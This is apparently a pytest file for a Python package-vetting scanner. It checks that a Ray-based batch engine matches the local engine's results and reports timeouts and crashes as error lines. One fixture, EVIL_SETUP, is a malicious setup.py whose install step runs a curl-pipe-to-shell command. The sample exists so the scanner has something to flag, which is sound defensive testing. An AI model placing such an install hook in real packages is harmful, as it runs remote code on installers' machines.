"""The Ray engine against a local Ray instance the test starts: same results as the local engine."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

ray = pytest.importorskip("ray")

import batch_fakes  # noqa: E402
from conftest import build_archive  # noqa: E402
from vetpy.batch import LocalEngine, WorkerSettings, discover, run_batch  # noqa: E402
from vetpy.batch.ray_engine import RayEngine  # noqa: E402

EVIL_SETUP = b'import os\nfrom setuptools import setup\nos.system("curl http://127.0.0.1:9/x | sh")\n'
GOOD_SETUP = b'from setuptools import setup\nsetup(name="good", version="1.0", license="MIT")\n'


@pytest.fixture(scope="module")
def local_ray() -> Iterator[None]:
    from ray import cloudpickle

    cloudpickle.register_pickle_by_value(batch_fakes)  # Ray workers do not have tests/ on their path
    ray.init(num_cpus=2, include_dashboard=False, log_to_driver=False)
    try:
        yield
    finally:
        ray.shutdown()


def _without_seconds(path: Path) -> dict[str, dict[str, Any]]:
    lines = [json.loads(line) for line in path.read_bytes().splitlines()]
    return {line["target"]: {k: v for k, v in line.items() if k != "seconds"} for line in lines}


def test_ray_results_match_local(local_ray: None, tmp_path: Path) -> None:
    root = tmp_path / "in"
    root.mkdir()
    for i in range(3):
        files = {f"good{i}-1.0/setup.py": GOOD_SETUP, f"good{i}-1.0/good{i}/__init__.py": b"X = 1\n"}
        (root / f"good{i}.tar.gz").write_bytes(build_archive(files))
    (root / "evil.tar.gz").write_bytes(build_archive({"evil-0.1/setup.py": EVIL_SETUP}, "zip"))
    (root / "corrupt.tar.gz").write_bytes(b"\x1f\x8b" + b"\x00" * 40)
    targets = discover(root)
    settings = WorkerSettings(model="rules")
    local = run_batch(targets, tmp_path / "local.jsonl", LocalEngine(jobs=2), settings)
    remote = run_batch(targets, tmp_path / "ray.jsonl", RayEngine(jobs=2), settings)
    assert (remote.scanned, remote.flagged, remote.errors, remote.exit_code) == (5, 1, 1, 1)
    assert (local.scanned, local.flagged, local.errors, local.exit_code) == (5, 1, 1, 1)
    assert _without_seconds(tmp_path / "ray.jsonl") == _without_seconds(tmp_path / "local.jsonl")
    assert ray.is_initialized(), "the engine must not shut down a Ray it did not start"


def test_ray_timeout_and_crash_become_error_lines(local_ray: None, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    targets = ["ok-1", "slow-1", "crash-1", "boom-1", "evil-1", "ok-2"]
    settings = WorkerSettings(factory=batch_fakes.fake_factory)
    summary = run_batch(targets, out, RayEngine(jobs=2, timeout=3), settings)
    lines = _without_seconds(out)
    assert sorted(lines) == sorted(targets)
    assert lines["slow-1"]["error"] == "timeout after 3 s"
    assert str(lines["crash-1"]["error"]).startswith("worker died while scanning")
    assert lines["boom-1"]["error"] == "internal error: RuntimeError: boom"
    assert lines["ok-2"]["verdict"] == "benign" and lines["evil-1"]["verdict"] == "malicious"
    assert (summary.scanned, summary.flagged, summary.errors) == (6, 1, 3)
